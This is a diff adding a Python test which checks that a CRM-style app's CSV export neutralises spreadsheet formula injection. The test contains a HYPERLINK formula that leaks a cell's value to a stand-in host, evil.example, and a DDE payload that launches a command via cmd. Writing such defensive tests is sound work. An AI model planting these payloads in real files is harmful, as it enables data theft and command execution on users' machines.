@@ -4,6 +4,7 @@ records, search, memory or later exports, keeps a tombstone and flags a re-impor
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
@@ -166,3 +167,26 @@ def test_erasure_leaves_no_trace_and_a_reimport_is_flagged(
             uow, container.settings, tenant_id, {"email": "someone@else.example"}
         )
         assert [t.id for t in again] == [tombstone_id] and stranger == []
+
+
+def test_csv_tables_do_not_carry_spreadsheet_formulas(as_user: As, workspace: Workspace) -> None:
+    formula = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
+
+    def build(uow: UnitOfWork, admin: Principal) -> str:
+        records = RecordService(uow, admin)
+        contact: str = records.create("contact", s.ContactIn(name="=cmd|' /C calc'!A0"))["id"]
+        records.create(
+            "interaction",
+            s.InteractionIn(channel="app", direction="inbound", contact_id=contact, text=formula),
+        )
+        return contact
+
+    archive = _export(as_user, as_user("admin", build))
+    (contact,) = csv.DictReader(io.StringIO(archive.read("csv/contact.csv").decode()))
+    assert contact["name"] == "'=cmd|' /C calc'!A0"
+    interactions = csv.DictReader(io.StringIO(archive.read("csv/interactions.csv").decode()))
+    assert [row["text"] for row in interactions] == ["'" + formula]
+    # data.json is not a spreadsheet: the values are exact.
+    data = json.loads(archive.read("data.json"))
+    assert data["contact"]["name"] == "=cmd|' /C calc'!A0"
+    assert data["tables"]["interactions"][0]["text"] == formula
